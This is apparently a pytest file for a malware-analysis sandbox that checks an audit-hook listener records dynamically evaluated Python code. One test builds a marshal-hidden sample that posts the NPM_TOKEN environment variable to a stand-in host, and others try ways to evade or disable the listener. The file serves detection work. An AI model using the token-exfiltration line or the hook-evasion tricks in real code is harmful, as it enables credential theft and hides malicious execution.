"""What Python's listener writes down, tried on scripts of ours in this very Python, without a sandbox."""

import subprocess
import sys
from pathlib import Path

import pytest

from biopsy.sandbox.inside import journal, prepare

RUN = """
import sys
exec(compile(open(sys.argv[1]).read(), sys._stdlib_dir + "/encodings/__init__.py", "exec"), {})
exec(compile(open(sys.argv[2]).read(), sys.argv[2], "exec"), {"__name__": "__main__"})
"""

LOADER = """
import importlib.util as u, importlib.abc as a
class L(a.SourceLoader):
    def get_filename(self, n): return '/nowhere.py'
    def get_data(self, p): return b'loaded = 1'
s = u.spec_from_loader('m', L())
s.loader.exec_module(u.module_from_spec(s))
"""


@pytest.fixture
def heard(tmp_path: Path):
    """Run a script with the listener; give what it evaluated, and the oddities."""
    hook = prepare.python().replace(prepare.JOURNAL, str(tmp_path / "out"))
    (tmp_path / "out").mkdir()
    (tmp_path / "hook.py").write_text(hook)

    def run(script: str) -> tuple[list[journal.Entry], list[str]]:
        (tmp_path / "script.py").write_text(script)
        command = [sys.executable, "-I", "-c", RUN, str(tmp_path / "hook.py"), str(tmp_path / "script.py")]
        done = subprocess.run(command, capture_output=True, text=True, timeout=60, check=False, cwd=tmp_path)
        assert done.returncode == 0, done.stderr
        entries, odd = [], []
        for file in sorted((tmp_path / "out").iterdir()):
            page = journal.read(file.read_bytes())
            assert page.whole
            for one in page.records:
                if isinstance(one, journal.Entry):
                    entries.append(one)
                else:
                    odd.append(one.what or f"lost {one.lost}")
        return [one for one in entries if one.text != script.encode()], odd

    return run


def test_text_in_text_is_a_chain(heard) -> None:
    entries, _ = heard("exec(\"x = 1\\nexec('y = 2')\")")
    outer, inner = entries
    assert (outer.evaluator, outer.text) == ("exec", b"x = 1\nexec('y = 2')")
    assert (inner.text, inner.parent, inner.line) == (b"y = 2", outer.number, 2)


def test_code_of_evaluated_functions_knows_its_text_later(heard) -> None:
    entries, _ = heard("exec(\"def f():\\n    eval('3')\")\nf()")
    assert entries[1].parent == entries[0].number


@pytest.mark.parametrize(
    "script",
    [
        "import collections; collections.namedtuple('P', 'x y')",
        "import dataclasses\n@dataclasses.dataclass\nclass A:\n    x: int = 1",
        "import typing\ndef f(x: 'typing.Optional[int]'): pass\ntyping.get_type_hints(f)",
        "import json, http.client, urllib.request, asyncio",
        "import enum; enum.Enum('E', 'a b')",
    ],
)
def test_what_the_standard_library_makes_is_not_told(heard, script: str) -> None:
    assert heard(script) == ([], [])


@pytest.mark.parametrize(
    ("script", "evaluator", "code"),
    [
        ("eval('1 + 41')", "eval", b"1 + 41"),
        ("exec(compile('z = 4', '<made>', 'exec'))", "compile", b"z = 4"),
        ("e = exec\ne('aliased = 1')", "exec", b"aliased = 1"),
        ("import timeit; timeit.timeit('timed = 1', number=1)", "timeit", b"pass\ntimed = 1"),
        ("import code; code.InteractiveInterpreter().runsource('typed = 1')", "codeop", b"typed = 1"),
        (LOADER, "loader", b"loaded = 1"),
    ],
)  # fmt: skip
def test_every_way_of_evaluating_is_heard(heard, script: str, evaluator: str, code: bytes) -> None:
    entries, _ = heard(script)
    assert (evaluator, code) in [(one.evaluator, one.text) for one in entries]


def test_an_unmarshalled_code_object_is_put_into_words(heard) -> None:
    script = """
import marshal
source = '''
import os, urllib.request as u
def send(x):
    return u.urlopen("https://collector.example/" + x, data=os.environ["NPM_TOKEN"].encode())
'''
data = marshal.dumps(compile(source, 'x', 'exec'))
exec('pass')
exec(marshal.loads(data))
"""
    entries, _ = heard(script)
    told = entries[-1].text.decode()
    assert "import urllib.request as u" in told
    assert "u.urlopen(('https://collector.example/' + x), data=os.environ['NPM_TOKEN'].encode())" in told
    assert not entries[-1].whole


def test_a_program_and_a_startup_file_are_no_texts_whatever_was_unmarshalled_before(heard) -> None:
    entries, _ = heard(
        "import marshal, runpy, site\n"
        "exec(marshal.loads(marshal.dumps(compile('first = 1', '<made>', 'exec'))))\n"
        "open('hooks.py', 'w').write('import os; backend = os.environ.get(\"BACKEND\")')\n"
        "open('early.pth', 'w').write('import os; seen = os.environ.get(\"EARLY\")\\n')\n"
        "site.addsitedir('.')\n"
        "runpy.run_path('hooks.py')\n"
    )
    told = [(one.evaluator, one.caller) for one in entries if b"BACKEND" in one.text or b"EARLY" in one.text]
    assert all(evaluator in {"pth", "runpy"} for evaluator, _ in told)
    assert not any(b"put together" in one.text and b"environ" in one.text for one in entries)


def test_a_listener_that_forbids_everything_stops_nothing(heard) -> None:
    script = (
        "import sys\n"
        "def no(event, args):\n    if event == 'open': raise RuntimeError\n"
        "sys.addaudithook(no)\n"
        "exec('after = 1')\n"
    )
    entries, odd = heard(script)
    assert (entries[-1].text, odd) == (b"after = 1", ["sys.addaudithook"])


def test_a_walk_over_all_objects_does_not_find_it_and_meddling_is_told(heard) -> None:
    script = (
        "import gc, types\n"
        "find = lambda: [o for o in gc.get_objects() if type(o) is types.FunctionType and o.__name__ == 'hook'\n"
        "                and 'encodings' in o.__code__.co_filename]\n"
        "assert not find()\n"
        "gc.unfreeze()\n"
        "def make():\n    table = 0\n    def deaf(event, args): return table\n    return deaf\n"
        "for one in find(): one.__code__ = make().__code__\n"
        "exec('unheard = 1')\n"
    )
    _, odd = heard(script)
    assert odd == ["hook __code__"]


def test_a_full_stack_hides_nothing(heard) -> None:
    script = (
        "import sys\n"
        "def deep(n):\n    if n: return deep(n - 1)\n    exec('deep_down = 1')\n"
        "sys.setrecursionlimit(150)\n"
        "for n in range(150, 50, -1):\n"
        "    try: deep(n)\n    except RecursionError: continue\n    break\n"
    )
    entries, _ = heard(script)
    assert b"deep_down = 1" in [one.text for one in entries]


def test_code_may_not_pass_for_the_standard_library(heard) -> None:
    script = (
        "import sys\nname = sys._stdlib_dir + '/collections/__init__.py'\n"
        "exec(compile(\"exec('inside = 1')\", name, 'exec'))\n"
    )
    entries, odd = heard(script)
    assert b"inside = 1" in [one.text for one in entries]
    assert odd == ["code under the name of the standard library"]


@pytest.mark.parametrize(
    "script",
    [
        "import threading as t, urllib.request as u\na = t.Thread(target=u.urlopen, args=('x',))\na.start()\na.join()",
        "import sys, json\ntry:\n    json.loads('{')\nexcept ValueError:\n    sys.__excepthook__(*sys.exc_info())",
        "import os\nif not os.fork():\n    import subprocess\n    subprocess.check_call(['false'])\nos.wait()",
        "import json\nclass A:\n    def __del__(self): json.loads('{')\nA()",
    ],
    ids=["thread", "called", "end of a process", "finaliser"],
)
def test_lines_shown_with_an_error_accuse_nobody(heard, script: str) -> None:
    # The interpreter parses a piece of each line it shows, under that file's name, also of the library's.
    entries, odd = heard(script)
    assert odd == []
    assert [one.text for one in entries if b"raise" in one.text] == []


def test_a_line_of_the_library_that_a_package_has_run_is_still_told(heard) -> None:
    script = "import runpy\ncode = 'y = 1'\nexec(compile('exec(code, run_globals)', runpy.__file__, 'exec'), {'code': code, 'run_globals': {}})"
    entries, _ = heard(script)
    assert b"y = 1" in [one.text for one in entries]
    assert len(entries) == 2  # the line, put into words, and what it runs


def test_a_flood_is_cut_and_counted_and_the_payload_after_it_is_kept(heard) -> None:
    entries, odd = heard("for i in range(5000): eval(str(i))\nexec('import os')")
    assert len(entries) < 600
    assert entries[-1].text == b"import os"
    assert odd == ["lost 1", "lost 1000"]


def test_the_same_text_over_and_over_is_told_once(heard) -> None:
    entries, odd = heard("for _ in range(20000): eval('1 + 1')")
    assert (len(entries), odd) == (1, [])


def test_a_text_of_many_megabytes_is_cut_and_says_so(heard) -> None:
    entries, _ = heard("exec('import os #' + 'x' * (5 << 20))")
    assert (len(entries[0].text), entries[0].whole) == (journal.MAX_TEXT, False)


def test_children_that_were_forked_write_journals_of_their_own(heard) -> None:
    entries, _ = heard(
        "import os\nif not os.fork():\n    exec('child = 1')\n    os._exit(0)\nos.wait()\nexec('parent = 1')"
    )
    assert len({one.number.partition(".")[0] for one in entries}) == 2
